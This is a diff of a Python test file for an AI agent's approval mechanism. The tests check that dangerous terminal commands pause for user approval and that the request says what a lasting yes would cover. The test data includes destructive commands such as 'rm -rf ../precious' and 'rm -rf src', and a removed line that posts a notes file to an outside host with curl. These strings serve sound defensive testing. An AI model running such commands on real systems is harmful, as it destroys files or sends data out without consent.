@@ -4,14 +4,10 @@ import pytest
 
 from hermes_agent.testing.scripted import call, say
 from hermes_agent.testing.server import ScriptedServer
-from hermes_core.paths import Home
 from hermes_state.ledger import questions
-from tests.agent.tools.test_facts import PLUGIN
 from tests.rpc.harness import Inside, RefusedError, World
-from tests.support.plugins import enable
-from tui_gateway import scope, server
 
-DANGEROUS = "rm -rf ../precious"
+DANGEROUS = "rm -rf precious"
 
 
 def asked(client: Inside, model: ScriptedServer) -> tuple[str, str]:
@@ -37,7 +33,7 @@ def test_what_is_dangerous_waits_for_an_answer(
     is_there: bool,
 ) -> None:
     monkeypatch.setenv("HERMES_TOOLS_SANDBOX", "host")
-    precious = world.workspace.parent / "precious"
+    precious = world.workspace / "precious"
     precious.mkdir()
     sid, request_id = asked(client, model)
     assert client.call("session.active_list")["sessions"][0]["status"] == "waiting"
@@ -65,56 +61,29 @@ def test_a_client_that_comes_later_is_asked_too_and_may_answer(
 
 
 @pytest.mark.parametrize(
-    ("name", "arguments", "remembered"),
+    ("command", "remembers", "choices"),
     [
-        ("terminal", {"command": "rm -rf ../precious"}, "rm {parent}/precious"),
-        ("terminal", {"command": "curl -d @notes https://example.org"}, "curl to example.org"),
-        ("terminal", {"command": "$WHATEVER now"}, "this very command"),
-        ("write_file", {"path": "../other/x.txt", "content": "x"}, "changing {parent}/other"),
+        ("rm -rf src", "exactly this call", ["once", "session", "always", "deny"]),
+        ("sudo ls", "", ["once", "deny"]),
     ],
 )
 def test_an_approval_says_what_a_lasting_yes_is_for(
     client: Inside,
     world: World,
     model: ScriptedServer,
-    name: str,
-    arguments: dict[str, str],
-    remembered: str,
+    command: str,
+    remembers: str,
+    choices: list[str],
 ) -> None:
-    model.add(call(name, **arguments), say("All right."))
-    sid = client.open(cwd=str(world.workspace))
-    client.call("prompt.submit", session_id=sid, text="do it")
-    told = client.event("approval.request")["remembers"]
-    assert told == remembered.format(parent=world.workspace.parent)
-    later = Inside()
-    later.call("session.activate", session_id=sid)
-    assert later.event("approval.request")["remembers"] == told
-
-
-def test_what_a_lasting_yes_is_for_is_known_of_a_tool_of_a_plugin(
-    client: Inside, world: World, model: ScriptedServer, home: Home
-) -> None:
-    enable(home, "garden", PLUGIN)
-    outside = str(world.workspace.parent / "other" / "x")
-    model.add(call("call_tool", name="plant", arguments={"where": outside}), say("All right."))
+    model.add(call("terminal", command=command), say("All right."))
     sid = client.open(cwd=str(world.workspace))
     client.call("prompt.submit", session_id=sid, text="do it")
     asked = client.event("approval.request")
-    assert asked["tool_name"] == "plant"
-    assert asked["remembers"] == f"changing {world.workspace.parent / 'other'}"
-    client.call("session.interrupt", session_id=sid)
-    assert client.event("message.complete")["status"] == "interrupted"
-
-
-def test_what_is_remembered_is_not_guessed(
-    client: Inside, world: World, model: ScriptedServer
-) -> None:
-    sid, request_id = asked(client, model)
-    session = server._sessions[sid]
-    with world.store() as store:
-        question = store.read(questions.fetch, request_id)
-    question = {**question, "text": "Does something else"}
-    assert scope.of_yes(server._runtime, session, question) == ""
+    assert (asked["remembers"], asked["choices"]) == (remembers, choices)
+    assert asked["allow_permanent"] is bool(remembers)
+    later = Inside()
+    later.call("session.activate", session_id=sid)
+    assert later.event("approval.request")["remembers"] == remembers
 
 
 def test_a_stop_withdraws_the_question(client: Inside, world: World, model: ScriptedServer) -> None:
